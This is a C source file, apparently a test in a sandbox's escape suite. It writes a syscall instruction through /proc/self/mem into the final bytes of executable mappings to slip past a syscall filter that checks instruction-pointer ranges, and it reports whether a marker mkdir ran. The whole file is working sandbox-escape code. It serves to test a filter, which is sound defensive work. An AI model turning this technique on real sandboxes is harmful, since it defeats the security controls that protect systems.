/* SPDX-License-Identifier: ISC */
/*
 * escape_rangeend (attack range-end): a `syscall` written into the last
 * two bytes of an executable range (the vDSO's, the program's text, ld.so's
 * text) through /proc/self/mem.  The kernel reports the address after the
 * trap, which is the range's end: a filter that judged the ip against
 * [start, end) took the call for another image's, outside every range,
 * and allowed it whatever its number (blind round 9).  Code rewritten in
 * place must gain no number: the call is the range's, and pinned nowhere
 * there.  Each place is tried in a child of its own (a killed child does
 * not stop the next); the effect is the raw mkdir of MARK.
 *
 *   escape_rangeend MARK      exit 0 MARK made, 3 not
 */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

/* The end of the executable mapping whose line has what in it, or 0. */
static uintptr_t
range_end(const char *what)
{
	char line[4096], perm[5];
	uintptr_t lo, hi, end = 0;
	FILE *f = fopen("/proc/self/maps", "re");

	while (f != NULL && end == 0 && fgets(line, sizeof(line), f) != NULL)
		if (sscanf(line, "%lx-%lx %4s", &lo, &hi, perm) == 3 &&
		    perm[2] == 'x' && strstr(line, what) != NULL)
			end = hi;
	if (f != NULL)
		fclose(f);
	return end;
}

/* mkdir(mark, 0755) from the trap at end - 2; the child dies after it
 * (the next instruction is past the range). */
static void
attack(uintptr_t end, const char *mark)
{
	static const unsigned char trap[2] = { 0x0f, 0x05 };
	int fd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);

	if (fd == -1 || pwrite(fd, trap, 2, (off_t)(end - 2)) != 2) {
		perror("/proc/self/mem");
		_exit(2);
	}
	__asm__ volatile("mov $83, %%eax\n\tjmp *%2"
	    : : "D"(mark), "S"(0755), "r"(end - 2) : "rax", "memory");
	_exit(2);
}

int
main(int argc, char **argv)
{
	char self[4096];
	const char *where[3] = { "[vdso]", self, "/ld-linux" };
	ssize_t n;
	pid_t pid;
	int st;

	if (argc != 2) {
		fprintf(stderr, "usage: escape_rangeend MARK\n");
		return 2;
	}
	if ((n = readlink("/proc/self/exe", self, sizeof(self) - 1)) <= 0)
		return 2;
	self[n] = '\0';
	for (int i = 0; i < 3; i++) {
		uintptr_t end = range_end(where[i]);
		if (end == 0)
			continue;
		fflush(stdout);
		if ((pid = fork()) == 0)
			attack(end, argv[1]);
		waitpid(pid, &st, 0);
		printf("%s: a trap in its last two bytes: %s\n", where[i],
		    access(argv[1], F_OK) == 0 ? "mkdir ran" : "stopped");
	}
	return access(argv[1], F_OK) == 0 ? 0 : 3;
}
